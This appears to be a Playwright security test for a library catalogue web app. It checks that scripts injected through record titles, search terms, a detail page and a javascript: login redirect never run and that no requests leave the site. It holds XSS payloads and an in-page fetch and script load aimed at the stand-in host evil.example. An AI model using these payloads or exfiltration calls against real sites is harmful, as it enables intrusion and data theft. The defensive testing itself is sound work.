import { chromium } from '@playwright/test';
import { LIBRARY } from '../compare/tree.ts';
import type { Attack } from './attack.ts';
import { record } from './records.ts';
import { recordIdsOf } from './victim.ts';

const SCRIPT =
  '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><svg onload="window.hacked=1">';

/** What a script that got into the page would try; true if one of them ran. Text, because it is the page's code and not ours. */
const IN_PAGE = `(async () => {
  const add = (tag, traits) =>
    new Promise((done) => {
      const one = Object.assign(document.createElement(tag), traits);
      one.addEventListener('load', done);
      one.addEventListener('error', done);
      setTimeout(done, 500);
      document.body.append(one);
    });
  await add('script', { textContent: 'window.hacked=1' });
  await add('script', { src: 'https://evil.example/x.js' });
  await add('iframe', { srcdoc: '<script>parent.hacked=1</script>' });
  const button = Object.assign(document.createElement('div'), { innerHTML: '<b onclick="window.hacked=1">x</b>' });
  document.body.append(button);
  button.firstChild.click();
  await import('data:text/javascript,window.hacked=1').catch(() => undefined);
  await fetch('https://evil.example/steal').catch(() => undefined);
  return 'hacked' in window;
})()`;

/** What a script in data, or one that got into the page, may do there. */
export const ATTACKS_ON_PAGES: readonly Attack[] = [
  {
    name: 'scripts in a title, an address and the page itself, in a browser',
    mustHold: 'none runs, nothing is sent elsewhere',
    async run(victim) {
      await victim.bring('script.mrc', record('script', `Scriptsplenty ${SCRIPT}`), {
        word: 'scriptsplenty',
        count: 1,
      });
      const [id = ''] = await recordIdsOf(victim, 'scriptsplenty');
      const browser = await chromium.launch({
        executablePath: process.env.LECTERN_CHROMIUM ?? '/usr/bin/chromium',
        args: ['--no-sandbox', '--disable-gpu'],
      });
      try {
        const page = await browser.newPage();
        const elsewhere: string[] = [];
        page.on('request', (request) => {
          const { origin } = new URL(request.url());
          if (origin !== victim.origin && request.url().startsWith('http')) elsewhere.push(request.url());
        });
        const ran: string[] = [];
        for (const [name, address] of [
          ['record page', `${victim.origin}/${LIBRARY}/record/${id}`],
          ['portal', `${victim.origin}/${LIBRARY}/#/searchList/bookDetails/${id}`],
          [
            'results',
            `${victim.origin}/${LIBRARY}/#/searchList?keyWord=${encodeURIComponent(`scriptsplenty ${SCRIPT}`)}`,
          ],
          ['next path', `${victim.origin}/${LIBRARY}/#/login?nextpath=javascript:window.hacked=1`],
        ] as const) {
          await page.goto(address, { waitUntil: 'networkidle' });
          const isHacked = await page.evaluate(IN_PAGE);
          if (isHacked) ran.push(name);
        }
        const held = ran.length === 0 && elsewhere.length === 0;
        return { held, saw: held ? 'none ran' : `ran in ${ran.join(', ')}; asked ${elsewhere.join(' ')}` };
      } finally {
        await browser.close();
      }
    },
  },
];
